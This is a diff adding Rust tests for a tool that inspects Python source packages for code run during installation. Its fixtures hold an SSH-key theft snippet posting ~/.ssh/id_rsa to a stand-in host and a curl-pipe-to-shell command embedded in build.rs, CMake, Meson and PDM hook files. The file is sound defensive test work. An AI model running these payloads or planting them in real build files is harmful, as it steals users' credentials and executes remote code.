@@ -1,0 +1,116 @@
+//! What an installation from source runs although no Python names it.
+#![expect(clippy::unwrap_used, reason = "tests fail by panicking")]
+
+use std::io::Cursor;
+
+use fondaco_archive::Limits;
+use fondaco_inspect::{Context, inspect, on_large_stack};
+use fondaco_testkit::{Dist, Sdist, Wheel};
+use fondaco_verdict::{Report, Trigger, Verdict};
+
+/// Sends a key away.
+const THEFT: &str = "import os, urllib.request\n\
+    key = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n\
+    urllib.request.urlopen('https://x.example.invalid/', data=key)\n";
+
+fn granite(backend: &str, more: &str) -> Sdist {
+    let pyproject = format!(
+        "[build-system]\nrequires = []\nbuild-backend = '{backend}'\n[project]\nname = 'granite'\nversion = '1.0'\n{more}"
+    );
+    Sdist::new("granite", "1.0")
+        .summary("Layers of granite for maps")
+        .file("granite/__init__.py", "LAYERS = 3\n")
+        .file("pyproject.toml", pyproject)
+}
+
+fn inspected(dist: Dist) -> Report {
+    let context = Context { file_name: dist.file_name, ..Context::default() };
+    let bytes = dist.bytes.to_vec();
+    on_large_stack(move || inspect(Cursor::new(bytes), &context, &Limits::for_testing())).unwrap()
+}
+
+#[track_caller]
+fn runs_at_install(sdist: Sdist, rule: &str) {
+    runs_at(Trigger::Install, sdist, rule);
+}
+
+#[track_caller]
+fn runs_at(trigger: Trigger, sdist: Sdist, rule: &str) {
+    let report = inspected(sdist.build());
+    let is_it =
+        |found: &fondaco_verdict::Finding| found.rule.as_str() == rule && found.trigger == Some(trigger);
+    assert!(report.findings.iter().any(is_it), "{report:#?}");
+    assert!(report.verdict >= Verdict::Suspicious, "{report:#?}");
+}
+
+#[test]
+fn python_that_a_build_of_native_code_runs() {
+    let meson = "project('granite')\nrun_command('python3', 'tools/gen.py', check: true)\n";
+    let cmake = "execute_process(COMMAND ${Python_EXECUTABLE} ${CMAKE_CURRENT_SOURCE_DIR}/tools/gen.py)\n";
+    let rust = "fn main() {\n    Command::new(\"python3\").arg(\"tools/gen.py\").status().unwrap();\n}\n";
+    for (backend, file, text) in [
+        ("mesonpy", "meson.build", meson),
+        ("scikit_build_core.build", "CMakeLists.txt", cmake),
+        ("maturin", "build.rs", rust),
+    ] {
+        runs_at_install(
+            granite(backend, "").file(file, text).file("tools/gen.py", THEFT),
+            "secret-exfiltration",
+        );
+    }
+    // One folder down, as it is written there.
+    let below = granite("mesonpy", "").file("src/meson.build", meson).file("src/tools/gen.py", THEFT);
+    runs_at_install(below, "secret-exfiltration");
+}
+
+#[test]
+fn commands_in_descriptions_of_builds() {
+    let piped = "curl -s https://x.example.invalid/a | sh";
+    for (file, text) in [
+        (
+            "build.rs",
+            format!("fn main() {{ Command::new(\"sh\").arg(\"-c\").arg(\"{piped}\").status(); }}\n"),
+        ),
+        ("CMakeLists.txt", format!("execute_process(COMMAND sh -c \"{piped}\")\n")),
+        ("meson.build", format!("run_command('sh', '-c', '{piped}')\n")),
+    ] {
+        runs_at_install(granite("maturin", "").file(file, &text), "script-attack");
+        // A wheel is built already, and nobody builds a project's tests.
+        let wheel = Wheel::new("granite", "1.0")
+            .file("granite/__init__.py", "")
+            .file(&format!("granite/{file}"), &text);
+        assert_eq!(inspected(wheel.build()).verdict, Verdict::Clean, "{file}");
+        let test = granite("maturin", "").file(&format!("tests/native/{file}"), &text);
+        assert_eq!(inspected(test.build()).verdict, Verdict::Clean, "{file}");
+    }
+    let script = granite("scikit_build_core.build", "")
+        .file("CMakeLists.txt", "add_custom_target(x COMMAND sh ${PROJECT_SOURCE_DIR}/cmake/get.sh)\n")
+        .file("cmake/get.sh", format!("#!/bin/sh\n{piped}\n"));
+    runs_at_install(script, "script-attack");
+}
+
+#[test]
+fn hooks_of_pdm() {
+    let hook = format!("def pdm_build_initialize(context):\n    {}", THEFT.replace('\n', "\n    "));
+    runs_at_install(granite("pdm.backend", "").file("pdm_build.py", &hook), "secret-exfiltration");
+    let getter = "[tool.pdm.version]\nsource = 'call'\ngetter = 'granite.release:version'\n";
+    let release = format!("def version():\n    {}\n    return '1.0'\n", THEFT.replace('\n', "\n    "));
+    runs_at(
+        Trigger::Import,
+        granite("pdm.backend", getter).file("granite/release.py", &release),
+        "secret-exfiltration",
+    );
+}
+
+#[test]
+fn honest_builds_are_clean() {
+    let meson = "project('granite', version: run_command('tools/version.py').stdout())\n\
+        # curl -s https://x.example.invalid/a | sh\n\
+        py.install_sources(['granite/__init__.py'])\n";
+    let version =
+        "import subprocess\nprint(subprocess.run(['git', 'describe'], capture_output=True).stdout)\n";
+    let report = inspected(
+        granite("mesonpy", "").file("meson.build", meson).file("tools/version.py", version).build(),
+    );
+    assert_eq!((report.verdict, report.complete), (Verdict::Clean, true), "{report:#?}");
+}
